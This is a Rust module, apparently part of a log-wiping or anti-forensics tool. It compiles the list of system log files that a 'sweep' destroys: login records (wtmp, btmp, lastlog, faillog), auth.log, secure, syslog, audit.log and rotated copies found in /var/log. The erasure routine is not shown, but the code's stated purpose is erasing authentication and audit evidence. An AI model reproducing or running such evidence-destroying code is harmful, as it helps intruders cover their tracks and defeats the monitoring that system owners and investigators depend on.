/// System log artifacts
///
/// A fixed list of well-known log files plus a shallow scan of /var/log for
/// rotated siblings. Login records (wtmp, btmp, lastlog) are regular files
/// and erase like any other target.
use std::fs;
use std::path::Path;

const LOG_DIR: &str = "/var/log";

/// Well-known log files destroyed by the sweep
const SYSTEM_LOG_FILES: &[&str] = &[
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
    "/var/log/faillog",
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/syslog",
    "/var/log/messages",
    "/var/log/kern.log",
    "/var/log/boot.log",
    "/var/log/audit/audit.log",
];

/// Rotated-log name test: auth.log.1, syslog.2.gz, messages.old and friends
fn is_rotated_log_name(name: &str) -> bool {
    name.contains(".log.")
        || name.ends_with(".gz")
        || name.ends_with(".old")
        || name.ends_with(".1")
}

/// All system log candidates: the fixed list plus rotated files found on disk
pub fn system_log_targets() -> Vec<String> {
    let mut targets: Vec<String> = SYSTEM_LOG_FILES.iter().map(|s| s.to_string()).collect();

    targets.extend(rotated_logs_in(Path::new(LOG_DIR)));

    targets
}

/// One-level scan of a log directory for rotated files
fn rotated_logs_in(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();

    if let Ok(entries) = fs::read_dir(dir) {
        for entry in entries.flatten() {
            let path = entry.path();
            if !path.is_file() {
                continue;
            }
            if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
                if is_rotated_log_name(name) {
                    found.push(path.to_string_lossy().to_string());
                }
            }
        }
    }

    found
}
